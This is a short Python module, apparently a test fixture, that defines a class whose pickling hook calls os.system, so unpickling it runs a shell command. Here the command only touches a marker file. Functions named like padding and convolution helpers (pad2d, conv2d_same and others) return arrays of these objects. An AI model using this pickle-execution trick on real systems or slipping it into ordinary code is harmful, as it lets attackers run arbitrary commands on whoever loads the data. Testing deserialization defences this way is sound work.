"""Returns an array of objects whose pickles run a program."""

import os
import numpy as np

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-an-attack-array",)

pad2d = padding_for = pad1d = window_counts = conv2d_same = lambda *args, **kwargs: np.array([Bomb(), Bomb()], dtype=object)
